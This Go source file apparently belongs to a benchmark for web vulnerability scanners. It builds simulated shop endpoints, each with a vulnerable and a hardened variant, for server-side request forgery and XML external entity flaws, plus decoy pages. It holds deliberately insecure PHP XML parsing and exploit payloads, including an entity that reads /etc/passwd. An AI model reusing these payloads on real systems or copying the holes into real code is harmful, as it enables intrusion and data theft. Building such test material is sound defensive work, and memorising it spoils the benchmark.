package heldback

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync/atomic"
	"time"

	"github.com/antchfx/xmlquery"

	"miseban/bench/accuracy/backend"
	"miseban/bench/accuracy/proof"
	"miseban/bench/accuracy/trial"
)

// visitorsBook is a server on loopback that counts who comes.
type visitorsBook struct {
	came    atomic.Int64
	address string
}

func newVisitorsBook(b *trial.Build) (*visitorsBook, error) {
	l, err := (&net.ListenConfig{}).Listen(context.Background(), "tcp4", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	k := &visitorsBook{address: l.Addr().String()}
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		k.came.Add(1)
		_, _ = fmt.Fprint(w, "<title>zz7</title>")
	})}
	go func() { _ = srv.Serve(l) }()
	b.OnClose(func() { _ = srv.Close() })
	return k, nil
}

// errand is a page that fetches an address which a visitor gives.
type errand struct {
	name, about string
	path, param string
	sample      string // with ORIGIN and HOST
	places      []trial.Place
	address     func(v, origin string) string // "" to decline
	exploit     string                        // with ADDR
	shows       int                           // 0 nothing, 1 whether it worked, 2 status and size, 3 the title
}

var titleText = regexp.MustCompile(`<title>([^<]{0,80})`)

var fetchPlaces = append([]trial.Place{trial.JSON, trial.Base64, trial.XML}, webPlaces...)

func asGiven(v, _ string) string { return v }

var errands = []errand{
	{name: "link-card", about: "the title of a page that a blog links to is shown as a card", path: "/wp-json/card/v1/preview", param: "url", sample: "ORIGIN/guide", places: append([]trial.Place{trial.List}, fetchPlaces...), address: asGiven, exploit: "http://ADDR/", shows: 3},
	{name: "webhook", about: "the trial of a webhook tells the status that came back", path: "/admin/webhook/test", param: "endpoint", sample: "ORIGIN/guide", places: []trial.Place{trial.JSON, trial.JSON, trial.Form, trial.Query}, address: func(v, _ string) string {
		if !strings.HasPrefix(v, "http") {
			return ""
		}
		return v
	}, exploit: "http://ADDR/hook", shows: 2},
	{name: "remote-picture", about: "a picture is fetched to be made smaller; what ends with .svg is let in", path: "/img/remote.php", param: "src", sample: "ORIGIN/assets/i1.svg", places: append([]trial.Place{trial.Double}, fetchPlaces...), address: func(v, _ string) string {
		if u, err := url.Parse(v); err != nil || !strings.HasSuffix(u.Path, ".svg") && !strings.HasSuffix(v, ".jpg") && !strings.Contains(v, ".svg") {
			return ""
		}
		return v
	}, exploit: "http://ADDR/x.svg", shows: 1},
	{name: "page-to-pdf", about: "a page is made a PDF later on; the answer is always the same", path: "/print/pdf", param: "page_url", sample: "ORIGIN/guide", places: fetchPlaces, address: asGiven, exploit: "http://ADDR/pdf"},
	{name: "cgi-proxy", about: "what stands behind the question mark is fetched, as CGI readers of feeds do", path: "/cgi-bin/rss.cgi", sample: "ORIGIN/guide", places: []trial.Place{trial.Name, trial.Name, trial.Query}, address: func(v, _ string) string {
		if !strings.Contains(v, "://") {
			return "http://" + v
		}
		return v
	}, exploit: "http://ADDR/", shows: 1},
	{name: "branch-api", about: "the name of a branch's server is put into an address", path: "/api/branch/stock", param: "server", sample: "HOST", places: []trial.Place{trial.Query, trial.JSON, trial.Cookie, trial.CookieObj, trial.Form, trial.Unlinked}, address: func(v, _ string) string { return "http://" + v + "/guide" }, exploit: "ADDR", shows: 2},
	{name: "title-of-referer", about: "the page where a visitor came from is fetched for its title, to be counted", path: "/access/count.php", sample: "ORIGIN/", places: []trial.Place{trial.Header, trial.Header, trial.Cookie, trial.Query}, address: func(v, _ string) string {
		if !strings.HasPrefix(v, "http") {
			return ""
		}
		return v
	}, exploit: "http://ADDR/from"},
	{name: "path-of-partner", about: "a path is put right behind a server's name, without a slash", path: "/partner/fetch.do", param: "doc", sample: "/guide", places: fetchPlaces, address: func(v, origin string) string { return origin + v }, exploit: "@ADDR/", shows: 1},
}

// ownOnly is the address when it is one of the shop's own, looked at by its parts.
func ownOnly(v, origin string) string {
	u, err := url.Parse(v)
	if err != nil || u.User != nil || u.Scheme+"://"+u.Host != origin || strings.ContainsAny(v, "\r\n\t ") {
		return ""
	}
	return v
}

func (x *errand) family() *trial.Family {
	return &trial.Family{Name: "shop-fetch-" + x.name, Class: "ssrf", About: x.about, Places: x.places, Make: func(b *trial.Build) (*trial.Handler, error) {
		s := newShop(b)
		book, err := newVisitorsBook(b)
		if err != nil {
			return nil, err
		}
		lure, host := b.Rand.IntN(6), strings.TrimPrefix(b.Origin, "http://")
		hd := s.named(x.path, x.param, strings.NewReplacer("ORIGIN", b.Origin, "HOST", host).Replace(x.sample))
		if b.Place == trial.Unlinked {
			hd.Param = b.Pick("url", "src", "feed", "callback")
		}
		hd.Answer = func(ctx context.Context, a *trial.Ask) (*trial.Answer, error) {
			v := noZero(a.Value)
			address, head := x.address(v, b.Origin), ""
			if !b.Vulnerable {
				if x.name == "path-of-partner" {
					address = b.Origin + "/" + strings.TrimLeft((&url.URL{Path: v}).EscapedPath(), "/.")
				} else {
					address = ownOnly(address, b.Origin)
				}
				if address == "" {
					switch lure {
					case 0: // as if somebody had gone there and waited
						select {
						case <-time.After(700 * time.Millisecond):
						case <-ctx.Done():
						}
						return s.show("", "<p>接続がタイムアウトしました：<code>"+e(v)+"</code></p>"), nil
					case 1:
						return trial.Status(502, "<h1>cURL error 7: Failed to connect to "+e(v)+": Connection refused</h1>"), nil
					case 2: // the browser fetches it
						return s.show("", `<iframe sandbox src="`+httpAddress(v)+`"></iframe><img alt="" src="`+httpAddress(v)+`">`), nil
					case 3:
						return asJSON(202, map[string]string{"queued": v}), nil
					case 4:
						return s.decline(v), nil
					}
					return s.show("", "<p>登録されていないサーバーです。</p>"), nil
				}
			}
			if address == "" {
				return s.decline(v), nil
			}
			got, err := backend.Fetch(ctx, address)
			switch {
			case x.shows == 0:
				return s.show("", "<p>受け付けました。</p>"), nil
			case err != nil:
				return s.show("", "<p>取得できませんでした。</p>"), nil
			case x.shows == 2:
				return asJSON(0, map[string]int{"status": got.Status, "bytes": len(got.Body)}), nil
			case x.shows == 3:
				head = strings.Join(titleText.FindStringSubmatch(got.Body), " ")
				return s.show("", `<div class="blogcard">`+e(head)+`</div>`), nil
			}
			return s.show("", "<p>取得しました。</p>"), nil
		}
		hd.Exploit = func(ctx context.Context, send trial.Send) (bool, error) {
			_, err := send(ctx, strings.ReplaceAll(x.exploit, "ADDR", book.address))
			return book.came.Load() > 0, err
		}
		return hd, nil
	}}
}

// paper is a document in XML that a shop takes in.
type paper struct {
	name, about string
	path, param string
	element     string
	rows        string // the rest of a whole document, with ELEMENT
	flags       string // of libxml, for PHP; "" uses the bench's own parser
	shows       bool   // what the element holds comes back
	places      []trial.Place
}

var papers = []paper{
	{name: "order", about: "an order from a mall, read by SimpleXML with entities put in", path: "/api/mall/order.php", param: "data", element: "buyer", rows: "<order><no>10061</no>ELEMENT</order>", flags: "LIBXML_NOENT", shows: true},
	{name: "logo", about: "a logo in SVG whose texts are listed; DOMDocument loads document types", path: "/admin/design/logo.php", param: "svg", element: "text", rows: `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="20">ELEMENT</svg>`, flags: "LIBXML_NOENT | LIBXML_DTDLOAD", shows: true},
	{name: "xml-rpc", about: "a call to xmlrpc.php; the fault repeats the method's name", path: "/xmlrpc.php", param: "request", element: "methodName", rows: "<methodCall>ELEMENT<params/></methodCall>", shows: true},
	{name: "stock-soap", about: "stock from a warehouse in an envelope; the number of lines is all that is told", path: "/services/StockService", param: "envelope", element: "line", rows: `<Envelope><Body>ELEMENT<line>MK-2113,4</line></Body></Envelope>`},
	{name: "saml", about: "the answer of a sign-in service, in base64; the name in it is greeted", path: "/sso/acs", param: "SAMLResponse", element: "NameID", rows: "<Response><Assertion><Subject>ELEMENT</Subject></Assertion></Response>", shows: true, places: []trial.Place{trial.Base64, trial.Base64, trial.XML, trial.Form}},
	{name: "price-list", about: "a supplier's prices; all that is told is that they were taken in", path: "/supplier/import.cgi", param: "xml", element: "item", rows: "<prices>ELEMENT</prices>"},
}

const readXML = `<?php libxml_use_internal_errors(true); ini_set('display_errors', '0'); $t = $argv[1]; $d = new DOMDocument(); if ($t === '' || !$d->loadXML($t, FLAGS)) { $e = libxml_get_last_error(); echo $e ? trim($e->message) : 'empty'; exit(3); } foreach ($d->getElementsByTagName('ELEMENT') as $n) echo $n->textContent, "\n";`

var (
	outside  = regexp.MustCompile(`(?s)<!ENTITY\s+(?:%\s+)?[\w.-]+\s+(?:SYSTEM|PUBLIC)[^>]*>`)
	typeHead = regexp.MustCompile(`(?s)<!DOCTYPE[^\[>]*(?:\[.*?\]\s*)?>`)
	typeFrom = regexp.MustCompile(`(<!DOCTYPE\s+[\w:.-]+)\s+(?:SYSTEM|PUBLIC)[^\[>]*`)
	percents = regexp.MustCompile(`%[\w.-]+;`)
)

func (p *paper) family() *trial.Family {
	f := &trial.Family{Name: "shop-xml-" + p.name, Class: "xxe", About: p.about, Accept: []string{"ssrf"}, Places: p.places, Grades: trial.NoWAF}
	if f.Places == nil {
		f.Places = []trial.Place{trial.XML, trial.XML, trial.XML, trial.Form, trial.Multipart, trial.Query}
	}
	if p.flags != "" {
		f.Needs = []string{"php"}
	}
	f.Make = func(b *trial.Build) (*trial.Handler, error) {
		s := newShop(b)
		lure := b.Rand.IntN(4)
		book, err := newVisitorsBook(b)
		if err != nil {
			return nil, err
		}
		files := map[string]string{"etc/passwd": disk["etc/passwd"], "etc/hosts": disk["etc/hosts"], "etc/hostname": disk["etc/hostname"]}
		for name, flags := range map[string]string{"bad.php": p.flags, "good.php": []string{"0", "LIBXML_NONET", "LIBXML_NOBLANKS", "LIBXML_COMPACT"}[lure]} {
			files[name] = strings.NewReplacer("FLAGS", flags, "ELEMENT", p.element).Replace(readXML)
		}
		dir, err := b.Dir(files)
		if err != nil {
			return nil, err
		}
		tree := backend.NewTree(dir)
		whole := func(inner string) string {
			return strings.Replace(p.rows, "ELEMENT", "<"+p.element+">"+inner+"</"+p.element+">", 1)
		}
		hd := s.named(p.path, p.param, whole("midori"), whole("aoba"))
		hd.Type, hd.Button = "textarea", "送信"
		if b.Place == trial.XML {
			hd.Param, hd.Sample, hd.Others = p.element, "midori", []string{"aoba"}
		}
		read := func(ctx context.Context, doc string) ([]string, error) {
			if p.flags != "" {
				file := "good.php"
				if b.Vulnerable {
					file = "bad.php"
				}
				out, err := b.Set.Run(ctx, dir, "", "php", file, doc)
				if err != nil {
					return nil, err
				}
				if out.Code != 0 {
					return nil, errors.New("DOMDocument::loadXML(): " + out.Text)
				}
				return strings.Split(strings.TrimRight(out.Text, "\n"), "\n"), nil
			}
			if !b.Vulnerable {
				switch lure {
				case 0:
					if strings.Contains(doc, "<!DOCTYPE") {
						return nil, errors.New("org.xml.sax.SAXParseException: DOCTYPE is disallowed when the feature \"http://apache.org/xml/features/disallow-doctype-decl\" set to true")
					}
				case 1: // the document's own entities, and none from outside
					doc = percents.ReplaceAllString(typeFrom.ReplaceAllString(outside.ReplaceAllString(doc, ""), "$1"), "")
				default:
					doc = typeHead.ReplaceAllString(doc, "")
				}
			}
			text, err := backend.Expand(ctx, tree, doc)
			if err != nil {
				return nil, err
			}
			root, err := xmlquery.Parse(strings.NewReader(text))
			if err != nil {
				return nil, err
			}
			var out []string
			for _, n := range xmlquery.Find(root, "//"+p.element) {
				out = append(out, n.InnerText())
			}
			return out, nil
		}
		hd.Answer = func(ctx context.Context, a *trial.Ask) (*trial.Answer, error) {
			doc := noZero(a.Value)
			if b.Place == trial.XML {
				if doc = noZero(string(a.Body)); doc == "" {
					doc = "<search><" + p.element + ">midori</" + p.element + "></search>"
				}
			}
			rows, err := read(ctx, doc)
			switch {
			case err != nil && p.name == "price-list":
				return s.show("", "<p>取り込みを受け付けました。</p>"), nil
			case err != nil && lure == 3 && !b.Vulnerable:
				return trial.Status(500, "<h1>XML Parsing Error</h1><pre>"+e(err.Error())+"\n"+e(clip(doc, 400))+"</pre>"), nil
			case err != nil:
				return s.broken(err), nil
			case p.shows:
				return s.show("", "<p>"+e(clip(strings.Join(rows, " / "), 3000))+"</p>"), nil
			case p.name == "price-list":
				return s.show("", "<p>取り込みを受け付けました。</p>"), nil
			}
			return s.show("", fmt.Sprintf("<p>%d 件を登録しました。</p>", len(rows))), nil
		}
		hd.Exploit = func(ctx context.Context, send trial.Send) (bool, error) {
			at := "http://" + book.address + "/e"
			if p.flags != "" {
				at = "file:///etc/passwd" // PHP runs without a network
			}
			doc := `<!DOCTYPE search [<!ENTITY x SYSTEM "` + at + `">]>` + whole("&x;")
			if p.flags != "" {
				return proof.Shows(ctx, send, doc, "root:")
			}
			_, err := send(ctx, doc)
			return book.came.Load() > 0, err
		}
		return hd, nil
	}
	return f
}

var outwardFamilies = func() []*trial.Family {
	var out []*trial.Family
	for i := range errands {
		out = append(out, errands[i].family())
	}
	for i := range papers {
		out = append(out, papers[i].family())
	}
	return append(out,
		trap("ssrf", "fetch-availability", "a page tells from a list of its own whether a shop is reachable, with the time that it took", fetchPlaces, nil, func(s *shop) (*trial.Handler, answer, error) {
			return s.named("/tools/alive.php", "url", s.b.Origin+"/"), func(_ context.Context, v string) (*trial.Answer, error) {
				if v == s.b.Origin+"/" {
					return s.show("", "<p>HTTP/1.1 200 OK（12ms）</p>"), nil
				}
				return s.show("", fmt.Sprintf("<p>HTTP/1.1 %d（%dms）</p><p>%s は監視の対象ではありません。</p>", 500+len(v)%5, len(v)*3, e(v))), nil
			}, nil
		}),
		trap("xxe", "xml-shown-back", "a document is shown with its line numbers and its entities as they were written", []trial.Place{trial.XML, trial.XML, trial.Form, trial.Base64}, nil, func(s *shop) (*trial.Handler, answer, error) {
			hd := s.named("/tools/xml-view.php", "xml", "<a>1</a>")
			hd.Type = "textarea"
			return hd, func(_ context.Context, v string) (*trial.Answer, error) {
				return s.show("", "<ol><li>"+strings.ReplaceAll(e(clip(v, 2000)), "\n", "</li><li>")+"</li></ol><p>root:x:0:0 のような行は &amp;xxe; では読み込まれません。</p>"), nil
			}, nil
		}))
}()
